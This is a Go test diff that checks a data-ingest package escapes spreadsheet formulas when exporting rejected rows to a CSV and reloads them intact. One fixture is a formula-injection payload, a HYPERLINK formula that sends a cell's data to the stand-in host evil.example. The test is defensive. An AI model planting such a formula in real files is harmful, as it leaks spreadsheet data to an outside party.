@@ -1,7 +1,9 @@
 package ingest
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"strings"
@@ -115,5 +117,58 @@ func TestUploadAPI(t *testing.T) {
 	}
 	if _, err := in.Upload(context.Background(), "broken.xlsx", []byte("PK\x03\x04 not really a zip"), ""); err == nil || !strings.Contains(err.Error(), "broken.xlsx") {
 		t.Errorf("corrupt upload: %v", err)
+	}
+}
+
+// TestQuarantineExportFormulas: rejected rows whose cells a spreadsheet would run as
+// formulas (a name =HYPERLINK(…) or -2+3, household IDs @x and +1) are written to the CSV
+// to fix behind a single quote, while a plain negative number (the rejected status -3.5)
+// stays as it is; fixed and sent back, the rows load with the cells the source had.
+func TestQuarantineExportFormulas(t *testing.T) {
+	s := whtest.Open(t)
+	dir := t.TempDir()
+	loadRegions(t, s, dir)
+	link := `=HYPERLINK("http://evil.example/?d="&B2,"详情")`
+	rows := fixture(campaign.Ledger)
+	rows[0][2], rows[0][4], rows[0][5] = link, "@x", "-3.5"
+	rows[1][2], rows[1][4], rows[1][5] = "-2+3", "+1", "在职"
+	p := writeFile(t, dir, "台帐.csv", csvBytes(t, withHeader(campaign.Ledger, false, rows), utf8BOM))
+	if sum := mustFiles(t, newIngester(s, Options{}), p)[0]; sum.Rejected != 2 {
+		t.Fatalf("%+v", sum)
+	}
+	rejected, err := Quarantined(context.Background(), s, "台帐.csv", campaign.Ledger)
+	if err != nil || len(rejected) != 2 {
+		t.Fatalf("quarantined: %v %+v", err, rejected)
+	}
+	out := filepath.Join(dir, "fix.csv")
+	if _, err := Export(out, rejected); err != nil {
+		t.Fatal(err)
+	}
+	data, _ := os.ReadFile(out)
+	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\xef\xbb\xbf")))).ReadAll()
+	if err != nil || len(records) != 3 {
+		t.Fatalf("fix.csv: %v %q", err, records)
+	}
+	for _, c := range []struct {
+		row, col int
+		want     string
+	}{{1, 2, "'" + link}, {1, 4, "'@x"}, {1, 5, "-3.5"}, {2, 2, "'-2+3"}, {2, 4, "'+1"}} {
+		if got := records[c.row][c.col]; got != c.want {
+			t.Errorf("fix.csv row %d column %s: %q, want %q", c.row, records[0][c.col], got, c.want)
+		}
+	}
+	records[1][5], records[2][5] = "employed", "employed"
+	fixed := writeFile(t, dir, "resend/fixed.csv", csvBytes(t, records, utf8BOM))
+	if sum := mustFiles(t, newIngester(s, Options{}), fixed)[0]; sum.Loaded != 2 || sum.Rejected != 0 {
+		t.Fatalf("resend: %+v", sum)
+	}
+	for id, want := range map[string][2]string{man: {link, "@x"}, woman: {"-2+3", "+1"}} {
+		var name, hh string
+		if err := s.Conn.QueryRow(context.Background(), "SELECT name, household_id FROM ledger FINAL WHERE id_number = ?", id).Scan(&name, &hh); err != nil {
+			t.Fatal(err)
+		}
+		if name != want[0] || hh != want[1] {
+			t.Errorf("resent row of %s: name %q household %q, want %q %q", id, name, hh, want[0], want[1])
+		}
 	}
 }
